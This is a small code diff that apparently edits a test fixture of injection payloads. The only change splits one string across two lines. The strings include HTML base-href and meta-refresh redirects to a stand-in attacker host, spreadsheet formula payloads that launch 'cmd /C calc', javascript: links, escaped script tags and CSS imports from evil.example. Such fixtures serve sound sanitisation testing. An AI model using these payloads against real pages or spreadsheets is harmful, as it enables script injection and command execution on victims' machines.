@@ -13,7 +13,8 @@ PAYLOADS = (
     '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">',
     "@SUM(1+1)*cmd|' /C calc'!A0 ##[error]假 #import \"x\": * $x$ &lt;script&gt;MZ(10)&#60;",
     "-2+3+cmd|'/C calc'!A0 <a href=javascript:MZ(11)>点</a><form action=//evil.example/><button>",
-    "+1+1 \\u003cscript\\u003eMZ(12)\\u003c/script\\u003e url(https://evil.example/y) @import '//evil.example/z'",
+    "+1+1 \\u003cscript\\u003eMZ(12)\\u003c/script\\u003e url(https://evil.example/y)"
+    " @import '//evil.example/z'",
 )
 ADDRESSES = (
     "javascript:MZ(13)",
